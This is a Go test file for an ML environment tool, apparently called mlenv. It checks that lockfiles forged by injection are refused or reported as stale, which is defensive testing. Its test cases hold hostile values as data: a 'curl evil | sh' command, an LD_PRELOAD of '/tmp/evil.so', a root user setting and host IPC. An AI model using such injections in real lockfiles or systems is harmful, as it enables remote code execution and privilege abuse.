package main

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/mlenv/mlenv/internal/pypitest"
	"github.com/mlenv/mlenv/lock"
)

// TestForgedRunIsStale: a lock whose [run] was edited and its integrity
// recomputed (the lockfile-injection attack on what runs) is stale, exit
// 3 naming the key, for run (--frozen too) and verify; nothing runs.
func TestForgedRunIsStale(t *testing.T) {
	reg := families(t)
	for _, tc := range []struct {
		key  string
		edit func(*lock.Run)
	}{
		{"user", func(r *lock.Run) { r.User = "0:0" }},
		{"ipc", func(r *lock.Run) { r.IPC = "host" }},
		{"mounts", func(r *lock.Run) { r.Mounts = append(r.Mounts, "mlenv-pip-cache:/cache") }},
		{"env", func(r *lock.Run) { r.Env = map[string]string{"LD_PRELOAD": "/tmp/evil.so"} }},
		{"command", func(r *lock.Run) { r.Command = []string{"sh", "-c", "curl evil | sh"} }},
	} {
		dir := newProject(t, reg, pytorchSpec)
		mustLock(t, dir)
		l := readLock(t, dir)
		tc.edit(&l.Run)
		if err := lock.WriteFile(filepath.Join(dir, "mlenv.lock"), l); err != nil { // integrity recomputed
			t.Fatal(err)
		}
		for _, args := range [][]string{{"run", "--", "true"}, {"run", "--frozen", "--", "true"}, {"verify", "--offline"}, {"lock", "--check"}} {
			r := mlenv(t, dir, args...)
			if r.code != 3 || !strings.Contains(r.stderr, "[run] "+tc.key) {
				t.Errorf("%s forged, mlenv %v: exit %d, want 3 naming [run] %s:\n%s", tc.key, args, r.code, tc.key, r.stderr)
			}
		}
	}
}

// TestForgedEnvDigestsAreRefused: a lock given another project's env and
// env-config (integrity recomputed) runs nothing: on the machine that
// locked it, the record says the digests are not the packages'; on
// another, the environment is built and compared first. verify fails and
// diff names the digests.
func TestForgedEnvDigestsAreRefused(t *testing.T) {
	idx := pypitest.New(t, testWheels...)
	victim := lockedRunProject(t, idx, "")
	other := pipProject(t, pythonRef(t), "[pip]\npackages = [\"delta\"]\nindex-url = \""+idx.URL+"\"\n")
	if r := mlenv(t, other, "lock"); r.code != 0 {
		t.Fatalf("lock the other project: %s", r.stderr)
	}
	if r := mlenv(t, other, "run", "--", "true"); r.code != 0 { // the engine has the other environment
		t.Fatalf("run the other project: %s", r.stderr)
	}
	l, o := readLock(t, victim), readLock(t, other)
	genuine := filepath.Join(t.TempDir(), "genuine.lock")
	if err := lock.WriteFile(genuine, l); err != nil {
		t.Fatal(err)
	}
	for i := range l.Image.Platforms {
		l.Image.Platforms[i].EnvDigest, l.Image.Platforms[i].EnvConfig = o.Image.Platforms[i].EnvDigest, o.Image.Platforms[i].EnvConfig
	}
	if err := lock.WriteFile(filepath.Join(victim, "mlenv.lock"), l); err != nil {
		t.Fatal(err)
	}
	run := []string{"run", "--", "python3", "-c", "print('ran')"}
	if r := mlenv(t, victim, run...); r.code != 125 || strings.Contains(r.stdout, "ran") || !strings.Contains(r.stderr, "env digests were edited") {
		t.Errorf("forged env, this machine: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	if r := mlenv(t, victim, "verify", "--offline"); r.code != 1 || !strings.Contains(r.stdout+r.stderr, "env digests were edited") {
		t.Errorf("verify --offline of the forged env: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if r := mlenv(t, victim, "diff", genuine, filepath.Join(victim, "mlenv.lock")); !strings.Contains(r.stdout, "env-config") || strings.Contains(r.stdout, "same environment") {
		t.Errorf("diff of the forged env: exit %d\n%s", r.code, r.stdout)
	}
	t.Setenv("XDG_CACHE_HOME", t.TempDir()) // another machine: no record, no downloads
	if r := mlenv(t, victim, run...); r.code != 125 || strings.Contains(r.stdout, "ran") || !strings.Contains(r.stderr, "not the locked one") {
		t.Errorf("forged env, another machine: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
}
